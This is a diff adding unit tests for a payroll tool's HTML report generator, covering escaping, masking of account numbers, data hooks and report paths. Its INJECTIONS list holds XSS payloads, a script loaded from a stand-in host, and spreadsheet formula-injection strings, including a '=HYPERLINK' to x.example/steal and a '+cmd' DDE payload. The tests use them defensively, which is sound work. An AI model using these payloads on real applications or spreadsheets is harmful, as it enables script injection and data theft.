@@ -1,0 +1,273 @@
+// The HTML report (src/report): nothing in a cell can become markup, account numbers are masked,
+// the DOM hooks the browser test reads hold the plan's and the results' exact figures. Unit tests:
+// no service, no browser (test/report/browser.e2e.test.ts opens the file in Chromium).
+import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import type { BatchPlan } from '../../src/engine/plan.ts';
+import { planHtml, resultsHtml } from '../../src/report/html.ts';
+import { planViewOffline, planViewOfPlan, readOfflineBatch, resultsViewOf } from '../../src/report/model.ts';
+import { escapeHtml, safe } from '../../src/report/safe-html.ts';
+import { planReportPathFor, readTieOut, reportPathFor } from '../../src/report/write.ts';
+import { writeReportOf } from '../../src/report/index.ts';
+import type { ResultsTable } from '../../src/results/index.ts';
+import { HEADER, generateCsv } from '../engine/helpers.ts';
+
+const INJECTIONS = [
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  "'><svg onload=alert(1)>",
+  '=HYPERLINK("http://x.example/steal","click")',
+  'javascript:alert(document.cookie)',
+  '</style><script src="http://x.example/a.js"></script>',
+  '</title></textarea><iframe src="http://x.example">',
+  '<a href="http://x.example">link</a>',
+  '<!-- comment --><base href="http://x.example/">',
+  '+cmd|/c calc!A0',
+];
+
+const ALLOWED_TAGS = new Set(
+  'html head meta title style body header footer section h1 h2 p strong span div ul li table colgroup col thead tbody tr th td figure figcaption svg g text rect'.split(
+    ' ',
+  ),
+);
+
+/**
+ * Every "<" of the document is one of the report's own tags (the value of every attribute is
+ * double-quoted, so a tag ends at the first ">" outside quotes): no tag outside the allowed set, no
+ * event handler, no URL attribute, nothing left over that a browser could read as markup.
+ */
+function assertInert(doc: string): void {
+  expect(doc.startsWith('<!doctype html>')).toBe(true);
+  const body = doc.slice('<!doctype html>'.length);
+  const style = /<style>([\s\S]*?)<\/style>/.exec(body);
+  expect(style, 'one style element').not.toBeNull();
+  expect(style![1]).not.toMatch(/[<>]|@import|url\(/i);
+  const rest = body.replace(style![0], '');
+  const tag = /<\/?([a-zA-Z][a-zA-Z0-9]*)((?:\s+[a-zA-Z_:][-a-zA-Z0-9_:.]*(?:="[^"<>]*")?)*)\s*\/?>/g;
+  let m: RegExpExecArray | null;
+  let leftover = '';
+  let last = 0;
+  while ((m = tag.exec(rest))) {
+    leftover += rest.slice(last, m.index);
+    last = m.index + m[0].length;
+    const name = m[1]!.toLowerCase();
+    expect(ALLOWED_TAGS.has(name), `tag <${name}>`).toBe(true);
+    for (const a of m[2]!.matchAll(/([a-zA-Z_:][-a-zA-Z0-9_:.]*)(?:="([^"]*)")?/g)) {
+      const attr = a[1]!.toLowerCase();
+      expect(attr.startsWith('on'), `attribute ${attr}`).toBe(false);
+      expect(['href', 'src', 'xlink:href', 'action', 'formaction', 'srcset', 'background', 'poster']).not.toContain(attr);
+      expect(a[2] ?? '').not.toMatch(/javascript:|^\s*https?:/i);
+    }
+  }
+  leftover += rest.slice(last);
+  expect(leftover, 'a "<" that is not one of the report\'s tags').not.toContain('<');
+  expect(doc).not.toMatch(/<script/i);
+  expect((doc.match(/<\/style>/g) ?? []).length).toBe(1);
+  expect(doc).toContain(`content="default-src 'none'`);
+}
+
+const dirs: string[] = [];
+async function tmp(): Promise<string> {
+  const d = await mkdtemp(join(tmpdir(), 'pb-report-'));
+  dirs.push(d);
+  return d;
+}
+afterAll(async () => {
+  await Promise.all(dirs.map((d) => rm(d, { recursive: true, force: true })));
+});
+
+const csvCell = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
+const col = (name: string) => HEADER.indexOf(name);
+
+describe('safe-html', () => {
+  it('escapes every interpolated value, nested fragments once, and offers no raw escape hatch', () => {
+    expect(escapeHtml(`<a href="x">'&'</a>`)).toBe('&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;');
+    const inner = safe`<b>${'<i>'}</b>`;
+    expect(safe`<p title="${'"onx="'}">${inner}${['<', safe`<br>`]}${undefined}${false}${0}</p>`.toString()).toBe(
+      '<p title="&quot;onx=&quot;"><b>&lt;i&gt;</b>&lt;<br>0</p>',
+    );
+  });
+});
+
+describe('results report', () => {
+  const table = (): ResultsTable => ({
+    format: 'csv',
+    inputColumns: ['reference', 'sourceAmount', 'sourceCurrency', 'accountName', 'iban', 'narration', INJECTIONS[0]!],
+    rows: INJECTIONS.map((inj, i) => ({
+      rowNumber: i + 2,
+      cells: {
+        reference: inj,
+        sourceAmount: i % 2 ? '1,000.50' : '250.25',
+        sourceCurrency: i < 5 ? 'EUR' : 'GBP',
+        accountName: inj,
+        iban: 'GB29NWBK60161331926819',
+        narration: inj,
+        [INJECTIONS[0]!]: inj,
+      },
+      result: {
+        status: ['SUCCESSFUL', 'FAILED', 'ADDITIONAL_INFO_REQUIRED', 'INVALID', 'UNKNOWN_OUTCOME'][i % 5]!,
+        idempotencyKey: `pb2-0123456789abcdef-${'0'.repeat(24)}-1`,
+        totalDeductible: i % 5 === 0 ? '251.00' : undefined,
+        refunded: i % 5 === 1 ? '1001.00' : undefined,
+        errorCode: i % 5 === 3 ? 'INVALID_IBAN' : undefined,
+        errorMessage: inj,
+        statusReason: inj,
+        nextStep: i % 5 === 2 ? inj : undefined,
+      },
+    })),
+  });
+
+  it('shows every hostile cell as text: no executable markup', () => {
+    const doc = resultsHtml(resultsViewOf(table(), '/tmp/<script>x</script>.results.csv'));
+    assertInert(doc);
+    expect(doc).toContain('/tmp/&lt;script&gt;x&lt;/script&gt;.results.csv');
+    expect(doc).toContain('&quot;&gt;&lt;img src=x onerror=alert(1)&gt;');
+    expect(doc).toContain('&lt;/title&gt;&lt;/textarea&gt;&lt;iframe src=&quot;http://x.example&quot;&gt;');
+    expect(doc).toContain('=HYPERLINK(&quot;http://x.example/steal&quot;,&quot;click&quot;)');
+  });
+
+  it('masks account numbers and gives the counts and totals in the DOM hooks', () => {
+    const doc = resultsHtml(resultsViewOf(table(), 'batch.results.csv'));
+    expect(doc).not.toContain('GB29NWBK60161331926819');
+    expect(doc).toContain('********6819');
+    expect(doc).toMatch(/<body data-kind="results">/);
+    expect(doc).toMatch(/<tr data-status="SUCCESSFUL">.*?data-field="rows" data-value="2"/);
+    // paid EUR: row 2 (250.25), GBP: row 7 (1,000.50 read as 1000.50)
+    expect(doc).toMatch(
+      /<tr data-group="paid" data-currency="EUR">.*?data-field="amount" data-value="250.25".*?data-field="total" data-value="251.00"/,
+    );
+    expect(doc).toMatch(/<tr data-group="paid" data-currency="GBP">.*?data-field="amount" data-value="1000.50"/);
+    expect(doc).toMatch(/<tr data-group="failed-refunded" data-currency="EUR">.*?data-field="refunded" data-value="1001.00"/);
+    // action first: the information request (rows 4 and 9) before the unknown outcome and the rest
+    const order = [...doc.matchAll(/<tr data-row="(\d+)" data-status="([A-Z_]+)/g)].map((m) => m[2]);
+    expect(order.slice(0, 2)).toEqual(['ADDITIONAL_INFO_REQUIRED', 'ADDITIONAL_INFO_REQUIRED']);
+    expect(order).toContain('UNKNOWN_OUTCOME');
+    expect(order).not.toContain('SUCCESSFUL');
+  });
+});
+
+describe('plan report', () => {
+  const plan = (): BatchPlan => ({
+    batchId: 'a'.repeat(64),
+    env: 'local',
+    file: '/tmp/payroll.csv',
+    rows: 3,
+    valid: 2,
+    invalid: 1,
+    toSend: [2, 3],
+    created: [],
+    notSent: new Map(),
+    invalidRows: new Map([[4, { code: 'PROHIBITED_COUNTRY', message: INJECTIONS[1]! }]]),
+    alreadyCreated: 0,
+    toSettle: 0,
+    currencies: [
+      {
+        currency: 'EUR',
+        rows: 2,
+        amount: '1234567.50',
+        estimatedFees: '3.00',
+        total: '1234570.50',
+        balance: '2000000.00',
+        balanceAfter: '765429.50',
+      },
+    ],
+    corridorsNotEnabled: [],
+    warnings: [INJECTIONS[5]!],
+    requests: { preflight: 4, estimate: 10, usedThisMonth: 100, quota: 10000 },
+    shortfall: false,
+    corridorBlocked: false,
+  });
+
+  it('holds the plan figures in the hooks, and says when nobody approved', () => {
+    const doc = planHtml(planViewOfPlan(plan(), { environment: 'local', sha256: 'b'.repeat(64) }));
+    assertInert(doc);
+    expect(doc).toMatch(/<body data-kind="plan">/);
+    const row = /<tr data-currency="EUR">(.*?)<\/tr>/.exec(doc)![1]!;
+    expect(row).toContain('data-field="amount" data-value="1234567.50">1,234,567.50<');
+    expect(row).toContain('data-field="fees" data-value="3.00"');
+    expect(row).toContain('data-field="total" data-value="1234570.50"');
+    expect(row).toContain('data-field="balanceAfter" data-value="765429.50"');
+    expect(doc).toMatch(/data-section="invalid">.*<tr data-row="4">/);
+    expect(doc).toContain('<p data-field="no-approvals">No approvals recorded</p>');
+    expect(doc).toContain(`data-field="signed-sha256">${'b'.repeat(64)}<`);
+  });
+
+  it('shows who approved, escaped, and flags the maker', () => {
+    const doc = planHtml(
+      planViewOfPlan(plan(), {
+        environment: 'local',
+        approvals: {
+          preparedBy: 'alice',
+          approvals: [
+            { name: 'alice', signedAt: '2026-01-01T10:00:00Z', publicKeyFingerprint: 'SHA256:aa', valid: true },
+            { name: INJECTIONS[0]!, signedAt: INJECTIONS[1]!, publicKeyFingerprint: INJECTIONS[2]!, valid: false, reason: INJECTIONS[3] },
+          ],
+        },
+      }),
+    );
+    assertInert(doc);
+    expect(doc).toContain('data-field="preparedBy">alice<');
+    expect(doc).toMatch(/<tr data-approver="alice" data-valid="true">.*does not count/);
+    expect(doc).toContain('data-approver="&lt;script&gt;alert(1)&lt;/script&gt;" data-valid="false"');
+  });
+
+  it('reads a hostile batch file offline: invalid rows with row, column and message; no fees claimed', async () => {
+    const dir = await tmp();
+    const lines = generateCsv({ rows: 3, currencies: ['EUR'] })
+      .trim()
+      .split('\n');
+    const rows = lines.slice(1).map((l) => l.split(','));
+    rows[0]![col('reference')] = INJECTIONS[0]!;
+    rows[0]![col('narration')] = INJECTIONS[3]!;
+    rows[1]![col('accountName')] = INJECTIONS[1]!;
+    rows[2]![col('sourceAmount')] = 'twelve';
+    rows[2]![col('reference')] = INJECTIONS[5]!;
+    const file = join(dir, 'payroll.csv');
+    await writeFile(file, [lines[0], ...rows.map((r) => r.map(csvCell).join(','))].join('\n') + '\n');
+    const view = planViewOffline(await readOfflineBatch(file));
+    expect(view.identity.invalid).toBe(1);
+    const doc = planHtml(view);
+    assertInert(doc);
+    expect(doc).toMatch(/<body data-kind="plan" data-offline="true">/);
+    expect(doc).toMatch(
+      /<tr data-row="4"><td class="num" data-field="row">4<\/td><td data-field="column">(<div>[^<]*<\/div>)*<div>sourceAmount<\/div>/,
+    );
+    expect(doc).not.toContain('data-field="fees"');
+    expect(doc).toContain('data-section="chart-method"');
+
+    // the command's entry point: a batch file gives the offline report beside it
+    const r = await writeReportOf(file);
+    expect(r).toEqual({ kind: 'batch', path: join(dir, 'payroll.plan.html') });
+    assertInert(await readFile(r.path, 'utf8'));
+  });
+});
+
+describe('where reports go, and the tie-out read back', () => {
+  it('puts a report beside its output, never over it', () => {
+    expect(reportPathFor('/d/payroll.results.csv')).toBe('/d/payroll.results.html');
+    expect(reportPathFor('/d/plan.json')).toBe('/d/plan.html');
+    expect(reportPathFor('/d/plan.html')).toBe('/d/plan.report.html');
+    expect(planReportPathFor('/d/payroll.xlsx')).toBe('/d/payroll.plan.html');
+  });
+
+  it('sums a reconciliation file per currency and wallet', async () => {
+    const dir = await tmp();
+    const path = join(dir, 'b.results.reconciliation.csv');
+    await writeFile(
+      path,
+      '\uFEFFkind,row,reference,payoutId,payoutRef,status,currency,walletId,totalDeductible,debit,refund,net,transactionIds,createdAt,tiesOut,problem\r\n' +
+        'row,2,R1,p1,,SUCCESSFUL,EUR,w_eur,10.50,-10.50,0.00,-10.50,t1,,yes,\r\n' +
+        'row,3,R2,p2,,FAILED,EUR,w_eur,5.00,-5.00,5.00,0.00,t2; t3,,yes,\r\n' +
+        'not from this batch,,"\'=X",,,,GBP,w_gbp,,-1.00,,-1.00,t9,,NO,debit not from this batch\r\n',
+    );
+    const t = await readTieOut(path);
+    expect(t.ok).toBe(false);
+    expect(t.wallets).toEqual([
+      { currency: 'EUR', walletIds: ['w_eur'], debited: '-15.50', refunded: '5.00', net: '-10.50', ok: true },
+      { currency: 'GBP', walletIds: ['w_gbp'], debited: '-1.00', refunded: '0.00', net: '-1.00', ok: false },
+    ]);
+    expect(t.problems).toEqual(['not from this batch (=X): debit not from this batch']);
+  });
+});
